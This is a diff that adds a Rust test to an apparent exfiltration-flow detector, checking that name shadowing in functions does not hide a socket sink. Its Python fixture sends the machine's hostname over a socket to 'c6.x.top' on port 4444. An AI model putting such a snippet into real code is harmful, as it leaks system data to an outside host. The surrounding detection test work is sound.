@@ -299,6 +299,24 @@ fn http_clients_and_handles() {
     }
 }
 
+/// Module code is read in the module's scope even after the file's functions were visited: a
+/// function's local or parameter named like a module variable (`def esc(s)` beside
+/// `s = socket.socket()`) once made `s.send` unknown, losing the destination and the flow.
+#[test]
+fn module_names_shadowed_in_functions_keep_their_meaning() {
+    for def in [
+        "def esc(s):\n    return s + 'x'\n",
+        "def esc(v):\n    s = 1\n    return v\n",
+    ] {
+        let src = format!(
+            "import socket\n{def}data = esc(socket.gethostname())\ns = socket.socket()\ns.connect(('c6.x.top', 4444))\ns.send(data.encode())\n"
+        );
+        let fl = one_flow(&src);
+        assert_eq!(fl.sink_api, "socket.socket().send", "{src}");
+        assert_eq!(fl.endpoints, vec!["c6.x.top".to_string()], "{src}");
+    }
+}
+
 #[test]
 fn dns_names_built_from_data() {
     let fl = one_flow(
